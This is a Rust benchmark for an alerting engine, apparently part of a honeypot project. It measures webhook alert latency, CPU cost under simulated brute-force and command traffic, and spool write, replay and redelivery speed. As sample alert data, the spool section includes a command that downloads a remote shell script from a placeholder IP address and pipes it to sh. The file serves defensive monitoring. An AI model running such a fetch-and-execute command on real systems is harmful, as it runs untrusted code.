//! Figures for the README (run in release):
//!
//! 1. event → alert delivered: successful logins from distinct sources
//!    published at a steady rate; each becomes an alert delivered by the
//!    signed-webhook channel to a local HTTPS receiver; latency from
//!    publish to the receiver reading the request, p50/p99/max.
//! 2. engine cost: mixed attacker traffic (brute forces from 1,000
//!    sources, commands, connects) at 10,000 events/s for 10 s — process CPU
//!    time over wall time (one core = 100 %), including the paced publisher
//!    (pre-built events, one bus push each); then the most it absorbs.
//! 3. spool: append rate (batches of 1,000, fsync'd), replay rate of
//!    `Spool::open` over 100,000 undelivered messages, and end-to-end
//!    redelivery of 20,000 spooled messages to the HTTPS receiver.
//!
//! `cargo run --release -p decnet-alerts --example alerts_bench [latency] [cost] [spool]`
#![allow(clippy::unwrap_used)]

#[path = "../tests/common/mod.rs"]
mod common;

use std::collections::HashMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use chrono::Utc;
use common::{event, Receiver};
use decnet_alerts::channels::{self, ChannelContext};
use decnet_alerts::delivery::spool::{Item, Spool};
use decnet_alerts::delivery::Delivery;
use decnet_alerts::{Alert, AlertEngine, AlertHandle, AlertsConfig};
use decnet_bus::{Bus, MemoryBus};
use decnet_core::{Event, EventKind};
use serde_json::json;
use uuid::Uuid;

fn cpu_seconds() -> f64 {
    // utime + stime of this process, in clock ticks (fields 14 and 15).
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap();
    let after = &stat[stat.rfind(')').unwrap() + 2..];
    let f: Vec<&str> = after.split(' ').collect();
    let ticks: f64 = f[11].parse::<f64>().unwrap() + f[12].parse::<f64>().unwrap();
    ticks / 100.0
}

fn pct(sorted: &[Duration], p: f64) -> Duration {
    sorted[((sorted.len() as f64 - 1.0) * p).round() as usize]
}

fn ip(i: usize) -> String {
    format!("10.{}.{}.{}", (i >> 16) & 255, (i >> 8) & 255, i & 255)
}

fn hook_ini(rx: &Receiver, extra: &str) -> String {
    format!(
        "[alerts]\nretry_base = 50ms\n{extra}\n[alerts.hook]\ntype = webhook\nurl = {}\nsecret = bench-secret-0123456789\nca_file = {}\n",
        rx.url("/hook"),
        rx.identity.ca_file.display()
    )
}

/// An engine on a memory bus whose webhook channel posts to `rx`.
async fn engine_to(rx: &Receiver) -> (Arc<MemoryBus>, AlertHandle, tempfile::TempDir) {
    let bus = MemoryBus::new();
    let dynbus: Arc<dyn Bus> = bus.clone();
    let spool = tempfile::tempdir().unwrap();
    let cfg = AlertsConfig::from_ini(&hook_ini(rx, "")).unwrap();
    let h = AlertEngine::spawn(dynbus, cfg, spool.path()).await.unwrap();
    (bus, h, spool)
}

async fn latency() {
    let rx = Receiver::start().await;
    let (bus, h, _spool) = engine_to(&rx).await;
    let n = 1000;
    let mut sent: HashMap<Uuid, Instant> = HashMap::new();
    for i in 0..n {
        let e = event(
            EventKind::AuthAttempt,
            &ip(i + 1),
            json!({"username": "root", "success": true}),
        );
        sent.insert(e.id, Instant::now());
        bus.publish_event(e);
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let reqs = rx.wait_for(n, 60).await;
    let mut lat: Vec<Duration> = reqs
        .iter()
        .filter_map(|r| {
            let v = r.json();
            let sig: Uuid = v["payload"]["signals"][0].as_str()?.parse().ok()?;
            Some(r.at - *sent.get(&sig)?)
        })
        .collect();
    lat.sort();
    println!(
        "event → alert delivered (signed webhook over HTTPS, {} alerts at 200/s): p50 {:.2} ms, p99 {:.2} ms, max {:.2} ms",
        lat.len(),
        pct(&lat, 0.5).as_secs_f64() * 1e3,
        pct(&lat, 0.99).as_secs_f64() * 1e3,
        lat.last().unwrap().as_secs_f64() * 1e3
    );
    h.shutdown().await;
}

fn traffic(n: usize) -> Vec<Event> {
    (0..n)
        .map(|i| {
            let src = ip(i % 1000 + 1);
            match i % 10 {
                0 => event(EventKind::Connect, &src, json!({})),
                1 => event(EventKind::Command, &src, json!({"command": "uname -a", "user": "root"})),
                _ => event(
                    EventKind::AuthAttempt,
                    &src,
                    json!({"username": "root", "secret_kind": "password", "secret_printable": format!("pw{i}"), "success": false}),
                ),
            }
        })
        .collect()
}

async fn engine_cost() {
    let rx = Receiver::start().await;
    let (bus, h, _spool) = engine_to(&rx).await;
    let rate = 10_000;
    let secs = 10;
    let events = traffic(rate * secs);
    let cpu0 = cpu_seconds();
    let t0 = Instant::now();
    let mut it = events.into_iter();
    let mut tick = tokio::time::interval(Duration::from_millis(10));
    for _ in 0..(secs * 100) {
        tick.tick().await;
        for e in it.by_ref().take(rate / 100) {
            bus.publish_event(e);
        }
    }
    while h.stats().received < (rate * secs) as u64 {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let wall = t0.elapsed().as_secs_f64();
    let cpu = cpu_seconds() - cpu0;
    let st = h.stats();
    println!(
        "engine at {rate} events/s for {secs} s: CPU {:.1} % of one core (process, incl. publisher), {} alerts, {} suppressed, bus drops {}",
        cpu / wall * 100.0,
        st.alerts,
        st.noise.suppressed,
        st.bus_dropped
    );
    // Flat out: chunks of 10,000 published back to back, each waited for
    // (the engine's queue is bounded; this measures what it absorbs).
    let chunks = 50;
    let events = traffic(10_000 * chunks);
    let before = h.stats().received;
    let t0 = Instant::now();
    let mut it = events.into_iter();
    for c in 1..=chunks {
        for e in it.by_ref().take(10_000) {
            bus.publish_event(e);
        }
        let target = before + (c * 10_000) as u64;
        while h.stats().received + h.stats().bus_dropped < target {
            tokio::task::yield_now().await;
        }
    }
    let st = h.stats();
    println!(
        "engine flat out: {:.0} events/s ({} events, bus drops {})",
        (chunks * 10_000) as f64 / t0.elapsed().as_secs_f64(),
        chunks * 10_000,
        st.bus_dropped
    );
    h.shutdown().await;
}

async fn spool() {
    let dir = tempfile::tempdir().unwrap();
    let n = 100_000;
    let alert = Arc::new({
        let mut a = Alert::test("hook");
        a.facts.push(decnet_alerts::Fact::new(
            "command",
            "wget http://203.0.113.9/x.sh -O- | sh",
        ));
        a
    });
    {
        let mut s = Spool::open(dir.path(), 4 << 20, 1_000_000).unwrap().spool;
        let batch: Vec<(String, Item)> = (0..1000)
            .map(|_| ("hook".to_string(), Item::Alert(alert.clone())))
            .collect();
        let t0 = Instant::now();
        for _ in 0..n / 1000 {
            s.append(&batch, Utc::now()).unwrap();
        }
        let dt = t0.elapsed().as_secs_f64();
        println!(
            "spool append: {:.0} messages/s (batches of 1,000, each fsync'd)",
            n as f64 / dt
        );
    }
    let t0 = Instant::now();
    let opened = Spool::open(dir.path(), 4 << 20, 1_000_000).unwrap();
    let dt = t0.elapsed().as_secs_f64();
    println!(
        "spool replay (open + parse): {:.0} messages/s ({} messages in {:.2} s)",
        opened.pending.len() as f64 / dt,
        opened.pending.len(),
        dt
    );
    drop(opened);

    // End to end: 20,000 spooled messages redelivered after a restart.
    let rx = Receiver::start().await;
    let dir = tempfile::tempdir().unwrap();
    let m = 20_000;
    {
        let mut s = Spool::open(dir.path(), 4 << 20, 1_000_000).unwrap().spool;
        let batch: Vec<(String, Item)> = (0..1000)
            .map(|i| {
                let mut a = (*alert).clone();
                a.id = Uuid::now_v7();
                a.rule = format!("rule{}", i % 8);
                ("hook".to_string(), Item::Alert(Arc::new(a)))
            })
            .collect();
        for _ in 0..m / 1000 {
            s.append(&batch, Utc::now()).unwrap();
        }
    }
    let cfg = AlertsConfig::from_ini(&hook_ini(&rx, "concurrency = 8")).unwrap();
    let ctx = ChannelContext {
        node: "bench".into(),
        link: None,
    };
    let ch = channels::build(&cfg.channels[0], &ctx).unwrap();
    let t0 = Instant::now();
    let d = Delivery::open(
        dir.path(),
        cfg.delivery.clone(),
        vec![(cfg.channels[0].clone(), ch)],
    )
    .unwrap();
    rx.wait_for(m, 300).await;
    let dt = t0.elapsed().as_secs_f64();
    println!(
        "spool redelivery after restart: {:.0} messages/s ({m} messages over HTTPS, concurrency 8, order kept per rule)",
        m as f64 / dt
    );
    d.shutdown().await.unwrap();
}

#[tokio::main]
async fn main() {
    let only: Vec<String> = std::env::args().skip(1).collect();
    let run = |part: &str| only.is_empty() || only.iter().any(|a| a == part);
    if run("latency") {
        latency().await;
    }
    if run("cost") {
        engine_cost().await;
    }
    if run("spool") {
        spool().await;
    }
}
